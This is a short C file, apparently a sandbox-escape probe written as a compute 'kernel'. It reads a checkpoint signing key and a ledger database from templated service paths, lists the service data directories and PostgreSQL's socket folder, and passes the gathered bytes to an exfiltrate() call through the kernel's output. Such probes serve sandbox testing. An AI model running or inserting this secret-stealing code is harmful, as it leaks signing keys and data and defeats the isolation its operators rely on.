/* (b) The signing key, the SQLite ledger, anything under the var dirs; PostgreSQL's socket folder. */
#include "common.h"
#include <dirent.h>

static const char *FILES[] = {"@VAR@/checkpoint-signing.key", "@VAR@/ledger.sqlite3", "@SERVICE_VAR@/checkpoint-signing.key",
                              "@SERVICE_VAR@/ledger.sqlite3", "@REPO@/var/checkpoint-signing.key", NULL};
static const char *FOLDERS[] = {"@VAR@", "@SERVICE_VAR@", "@REPO@/var", "/run/postgresql", NULL};

KERNEL {
    got_length = 0;
    for (int i = 0; FILES[i]; i++) {
        char buffer[4096];
        FILE *file = fopen(FILES[i], "r");
        if (!file) continue;
        note(buffer, fread(buffer, 1, sizeof buffer, file));
        fclose(file);
    }
    for (int i = 0; FOLDERS[i]; i++) {
        DIR *folder = opendir(FOLDERS[i]);
        for (struct dirent *entry; folder && (entry = readdir(folder));)
            if (entry->d_name[0] != '.') note(entry->d_name, strlen(entry->d_name));
        if (folder) closedir(folder);
    }
    exfiltrate(y, nz, ny, nx);
}
